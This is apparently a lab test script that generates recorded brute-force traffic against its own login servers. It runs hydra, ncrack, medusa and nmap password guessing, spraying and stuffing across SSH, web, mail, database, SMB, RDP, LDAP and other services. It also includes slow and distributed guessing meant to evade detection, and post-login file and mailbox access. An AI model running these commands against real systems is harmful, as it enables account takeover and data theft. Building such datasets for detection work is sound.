# shellcheck shell=bash disable=SC2154,SC2086 # names of tests/lab/run, each one word
# SPDX-License-Identifier: GPL-2.0-or-later
# Guessing passwords at real servers (those of logins.sh, one folder up).

# shellcheck source=tests/lab/logins.sh
. "$lab/logins.sh"

words=$login_root
hydra=(from outside env -C "$lab_state" hydra -I -q)
ncrack=(from outside ncrack -v --user root -P "$words/passwords.txt")
medusa=(from outside medusa -u root -P "$words/passwords.txt")
nmap=(from outside nmap -n -Pn)
few=unpwdb.userlimit=6,unpwdb.passlimit=6
browse=(curl -s -m 5 -o "$lab_state/page")
guess_root=(-l root -P "$words/passwords.txt")
find_bob=(-l bob -P "$words/found.txt")
spray=(-L "$words/users.txt" -p Winter2024)

# with SERVICES attack|benign NAME…: a scenario with those services on the login host, captured whole.
with()
{
    # shellcheck disable=SC2034 # used in add
    local SNAP=0 BEFORE="start_logins $1" AFTER="stop_logins; ${AFTER:-}"
    shift
    "$@"
}

# against SERVICE NAME COMMAND…: an attack from outside.
against()
{
    with "$1" attack "$2" brute_force $outside $login "${@:3}"
}

against ssh brute_ssh_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 ssh://$login
against ssh brute_ssh_hydra_one_task "${hydra[@]}" "${guess_root[@]}" -t 1 ssh://$login
against ssh brute_ssh_hydra_16_tasks "${hydra[@]}" "${guess_root[@]}" -t 16 ssh://$login
against ssh brute_ssh_keyboard_interactive guess_interactively
against ssh brute_ssh_902 "${hydra[@]}" "${guess_root[@]}" -t 4 -s 902 ssh://$login
against ssh brute_ssh_ncrack "${ncrack[@]}" ssh://$login
against ssh brute_ssh_ncrack_one_each "${ncrack[@]}" -g at=1,cl=3,CL=5 ssh://$login
against ssh brute_ssh_medusa "${medusa[@]}" -h $login -M ssh -t 2
against ssh brute_ssh_nmap "${nmap[@]}" -p 22 --script ssh-brute --script-args "userdb=$words/users.txt,passdb=$words/passwords.txt,$few" $login
against dropbear brute_dropbear_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 ssh://$login
against ssh brute_ssh_spray "${hydra[@]}" "${spray[@]}" -t 4 ssh://$login
against ssh brute_ssh_openssh guess_each ssh
with ssh attack brute_ssh_inside brute_force $inside $login from inside env -C "$lab_state" hydra -I -q "${guess_root[@]}" -t 4 ssh://$login
with ssh attack brute_ssh_ipv6 brute_force $outside6 $login6 "${hydra[@]}" -6 "${guess_root[@]}" -t 4 "ssh://[$login6]"
with ssh attack brute_ssh_spray_hosts brute_force $outside 10.80.0.0/24 "${hydra[@]}" -l root -p Winter2024 -M "$words/hosts.txt" -t 1 ssh
with ssh attack brute_ssh_distributed brute_force $far_net $login guess_from_30 ssh
with ssh attack brute_ssh_found brute_force $outside $login find_by_ssh

against ftp brute_ftp_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 ftp://$login
against ftp brute_ftp_hydra_16_tasks "${hydra[@]}" "${guess_root[@]}" -t 16 ftp://$login
against ftp brute_ftp_2121 "${hydra[@]}" -l alice -P "$words/passwords.txt" -t 4 -s 2121 ftp://$login
against ftp brute_ftp_ncrack "${ncrack[@]}" ftp://$login
against ftp brute_ftp_medusa "${medusa[@]}" -h $login -M ftp -t 4
against ftp brute_ftp_nmap "${nmap[@]}" -p 21 --script ftp-brute --script-args "userdb=$words/users.txt,passdb=$words/passwords.txt,$few" $login
against ftp brute_ftp_spray "${hydra[@]}" "${spray[@]}" -t 4 ftp://$login
with ftp attack brute_ftp_distributed brute_force $far_net $login guess_from_30 ftp
with ftp attack brute_ftp_found brute_force $outside $login find_by_ftp

against telnet_plain brute_telnet_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 telnet://$login
against telnet_plain brute_telnet_spray "${hydra[@]}" "${spray[@]}" -t 4 telnet://$login
against telnet brute_telnet_ncrack "${ncrack[@]}" telnet://$login
against telnet_plain brute_telnet_medusa "${medusa[@]}" -h $login -M telnet -t 3

against web brute_basic_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 http-get://$login/basic/
against web brute_basic_8081 "${hydra[@]}" "${guess_root[@]}" -t 4 -s 8081 http-get://$login/basic/
against web brute_basic_ncrack "${ncrack[@]}" http://$login,path=/basic/
against web brute_basic_medusa "${medusa[@]}" -h $login -M http -m DIR:/basic/ -t 2
against web brute_basic_nmap "${nmap[@]}" -p 80 --script http-brute --script-args "http-brute.path=/basic/,userdb=$words/users.txt,passdb=$words/passwords.txt,$few" $login
against web brute_basic_spray "${hydra[@]}" "${spray[@]}" -t 4 http-get://$login/basic/
against web brute_digest_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 http-get://$login/digest/
against web brute_digest_curl guess_each digest
with web attack brute_basic_distributed brute_force $far_net $login guess_from_30 basic
with web attack brute_basic_found brute_force $outside $login find_by_basic

against page brute_form_login401 guess_each form_401
for answer in login200 login302 login403; do
    against page brute_form_$answer "${hydra[@]}" "${guess_root[@]}" -t 4 -s 8000 $login http-post-form "/$answer:user=^USER^&password=^PASS^:F=ailed"
done
against page brute_form_spray "${hydra[@]}" "${spray[@]}" -t 4 -s 8000 $login http-post-form "/login200:user=^USER^&password=^PASS^:F=ailed"
against page brute_form_json guess_each json
against page brute_ntlm_curl guess_each ntlm
with page attack brute_form_distributed brute_force $far_net $login guess_from_30 form
with page attack brute_form_found brute_force $outside $login find_by_form

against mail brute_smtp_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 smtp://$login
against mail brute_smtp_medusa "${medusa[@]}" -h $login -M smtp -m AUTH:PLAIN -t 4
against mail brute_imap_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 imap://$login
against mail brute_imap_ncrack "${ncrack[@]}" imap://$login
against mail brute_imap_medusa "${medusa[@]}" -h $login -M imap -t 4
against mail brute_imap_stuffing "${hydra[@]}" -C "$words/pairs.txt" -t 4 imap://$login
against mail brute_imap_cram_md5 "${hydra[@]}" "${guess_root[@]}" -t 4 imap://$login/CRAM-MD5
against mail brute_pop3_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 pop3://$login
against mail brute_pop3_ncrack "${ncrack[@]}" pop3://$login
against mail brute_pop3_medusa "${medusa[@]}" -h $login -M pop3 -t 4
against mail brute_pop3_spray "${hydra[@]}" "${spray[@]}" -t 4 pop3://$login
with mail attack brute_imap_found brute_force $outside $login find_by_imap
with mail attack brute_imap_distributed brute_force $far_net $login guess_from_30 imap

against mysql brute_mysql_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 mysql://$login
against mysql brute_mysql_ncrack "${ncrack[@]}" mysql://$login
against mysql brute_mysql_medusa "${medusa[@]}" -h $login -M mysql -t 3
against postgres brute_postgres_hydra "${hydra[@]}" "${guess_root[@]}" -t 4 postgres://$login/postgres
against postgres brute_postgres_md5 "${hydra[@]}" -l bob -P "$words/passwords.txt" -t 4 postgres://$login/postgres
against postgres brute_postgres_ncrack from outside ncrack -v --user bob -P "$words/passwords.txt" psql://$login
against postgres brute_postgres_medusa from outside medusa -u monitor -P "$words/passwords.txt" -h $login -M postgres -t 3
against redis brute_redis_hydra "${hydra[@]}" -P "$words/passwords.txt" -t 4 redis://$login

# A guess every five seconds; and a guess every eleven minutes.
against ssh_quick brute_ssh_slow guess_slowly ssh 5
against web brute_basic_slow guess_slowly basic 5
for service in ssh_quick:ssh web:basic page:form mysql:mysql; do
    BPF=tcp AFTER=stretch_to_hours against "${service%:*}" "brute_${service#*:}_hours" guess_slowly "${service#*:}" 1.2
done

against vnc brute_vnc_hydra "${hydra[@]}" -P "$words/passwords.txt" -t 4 vnc://$login
against vnc brute_vnc_medusa "${medusa[@]}" -h $login -M vnc
against smb brute_smb_hydra "${hydra[@]}" -l alice -P "$words/passwords.txt" smb://$login
against smb brute_smb_ncrack "${ncrack[@]}" smb://$login
against smb brute_smb_medusa "${medusa[@]}" -h $login -M smbnt
against smb brute_smb_nmap "${nmap[@]}" -p 445 --script smb-brute --script-args "userdb=$words/users.txt,passdb=$words/passwords.txt,$few" $login
against smb brute_smb_smbclient guess_each smbclient
with smb attack brute_smb_found brute_force $outside $login find_by_smb
against rdp brute_rdp_ncrack "${ncrack[@]}" rdp://$login
against rdp brute_rdp_freerdp guess_by_freerdp
against ldap brute_ldap_hydra "${hydra[@]}" -l cn=admin,dc=lab,dc=example -P "$words/passwords.txt" -t 4 ldap3://$login
against ldap brute_ldap_ldapwhoami guess_each ldap
against ldap brute_ldap_nmap "${nmap[@]}" -p 389 --script ldap-brute --script-args "userdb=$words/users.txt,passdb=$words/passwords.txt,ldap.base=\"dc=lab,dc=example\",$few" $login
against mqtt brute_mqtt_ncrack "${ncrack[@]}" mqtt://$login
against mqtt brute_mqtt_mosquitto guess_each mqtt

ssh_once=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1
    -o PreferredAuthentications=password -o ConnectTimeout=5 -o LogLevel=ERROR)

# guess_from_30 SERVICE: two guesses from each of thirty addresses, some at a time.
guess_from_30()
{
    local i word
    for i in {1..30}; do
        {
            sed -n "${i}p;$((31 - i))p" "$words/passwords.txt" | while read -r word; do
                "guess_${1}_from" "198.51.100.$((100 + i))" "$word" </dev/null
            done
        } &
        sleep 0.4
    done
    wait
}

guess_ssh_from()
{
    from crowd sshpass -p "$2" ssh "${ssh_once[@]}" -b "$1" root@$login true
}

guess_ftp_from()
{
    from crowd "${browse[@]}" --interface "$1" -u "root:$2" ftp://$login/
}

guess_basic_from()
{
    from crowd "${browse[@]}" --interface "$1" -u "root:$2" http://$login/basic/
}

guess_form_from()
{
    from crowd "${browse[@]}" --interface "$1" --data-urlencode user=admin --data-urlencode "password=$2" http://$login:8000/login200
}

guess_imap_from()
{
    from crowd "${browse[@]}" --interface "$1" -u "info:$2" imap://$login/
}

# guess_each HOW: one password after the other, each in a connection of its own, $PAUSE seconds between them.
guess_each()
{
    local word
    head -"${GUESSES:-30}" "$words/passwords.txt" | while read -r word; do
        "guess_with_$1" "$word" </dev/null
        sleep "${PAUSE:-0.1}"
    done
}

guess_slowly()
{
    PAUSE=$2 GUESSES=16 guess_each "$1"
}

# What was silent for more than a second is silent for eleven minutes; BPF=tcp, so that nothing else breaks the silence.
stretch_to_hours()
{
    local capture=$out/$name.pcapng
    editcap -F pcap "$capture" - | python3 "$lab/stretch.py" 1 660 >"$lab_state/stretched" &&
        editcap -F pcapng "$lab_state/stretched" "$capture"
}

guess_with_ssh()
{
    from outside sshpass -p "$1" ssh "${ssh_once[@]}" root@$login true
}

# Three answers to the server's own questions in each connection.
guess_interactively()
{
    local i answers=$lab_state/guesses
    cp "$words/passwords.txt" "$answers"
    for i in {1..8}; do
        ANSWERS=$answers SSH_ASKPASS=$words/askpass SSH_ASKPASS_REQUIRE=force from outside ssh -o NumberOfPasswordPrompts=3 \
            -o PreferredAuthentications=keyboard-interactive "${ssh_once[@]}" root@$login true &
        sleep 1.5
    done
    wait
}

guess_with_basic()
{
    from outside "${browse[@]}" -u "root:$1" http://$login/basic/
}

guess_with_digest()
{
    from outside "${browse[@]}" --digest -u "root:$1" http://$login/digest/
}

guess_with_form()
{
    from outside "${browse[@]}" -d user=admin --data-urlencode "password=$1" http://$login:8000/login200
}

guess_with_form_401()
{
    from outside "${browse[@]}" -d user=admin --data-urlencode "password=$1" http://$login:8000/login401
}

guess_with_json()
{
    from outside "${browse[@]}" --json "{\"user\": \"admin\", \"password\": \"$1\"}" http://$login:8000/login_json
}

guess_with_ntlm()
{
    from outside "${browse[@]}" --ntlm -u "admin:$1" http://$login:8000/ntlm
}

guess_with_pop3()
{
    from outside "${browse[@]}" -u "root:$1" pop3://$login/
}

guess_with_mysql()
{
    from outside mariadb -h $login -u root -p"$1" --skip-ssl -e 'SELECT 1'
}

guess_with_smbclient()
{
    from outside smbclient //$login/share -U "LAB/alice%$1" -c ls
}

# The client wants a display, even though it shows nothing.
guess_by_freerdp()
{
    at outside Xtigervnc :66 -rfbport 5966 -SecurityTypes None -nolisten tcp 9>&- &
    sleep 1
    guess_each freerdp
    kill $!
}

guess_with_freerdp()
{
    LIMIT=2 DISPLAY=:66 from outside xfreerdp /v:$login /u:administrator "/p:$1" /cert-ignore +auth-only /sec:tls
}

guess_with_ldap()
{
    from outside ldapwhoami -x -H ldap://$login -D cn=admin,dc=lab,dc=example -w "$1"
}

guess_with_mqtt()
{
    from outside mosquitto_pub -h $login -u alice -P "$1" -t lights -m on
}

find_by_ssh()
{
    LIMIT=50 "${hydra[@]}" "${find_bob[@]}" -t 4 ssh://$login
    from outside sshpass -p sunshine1 ssh "${ssh_once[@]}" bob@$login 'id; ls -la /etc; cat report*; sleep 1; uname -a; cat /etc/services'
}

find_by_ftp()
{
    LIMIT=50 "${hydra[@]}" "${find_bob[@]}" -t 4 ftp://$login
    from outside lftp -u bob,sunshine1 -e 'set net:timeout 5; ls; mirror . '"$lab_state/taken"'; bye' ftp://$login
}

find_by_basic()
{
    local i
    "${hydra[@]}" "${find_bob[@]}" -t 4 http-get://$login/basic/
    for i in {1..20}; do
        from outside "${browse[@]}" -u bob:sunshine1 "http://$login/basic/report$i.txt"
    done
}

find_by_form()
{
    "${hydra[@]}" "${find_bob[@]}" -t 4 -s 8000 $login http-post-form "/login200:user=^USER^&password=^PASS^:F=ailed"
    from outside "${browse[@]}" -L -b "$lab_state/cookies" -c "$lab_state/cookies" -d user=bob -d password=sunshine1 http://$login:8000/login200
    from outside "${browse[@]}" -b "$lab_state/cookies" http://$login:8000/home
}

find_by_imap()
{
    "${hydra[@]}" "${find_bob[@]}" -t 4 imap://$login
    from outside "${browse[@]}" -u bob:sunshine1 "imap://$login/INBOX;MAILINDEX=[1-6]"
}

find_by_smb()
{
    "${hydra[@]}" "${find_bob[@]}" smb://$login
    from outside smbclient //$login/share -U LAB/bob%sunshine1 -c 'ls; get report9.txt /dev/null'
}
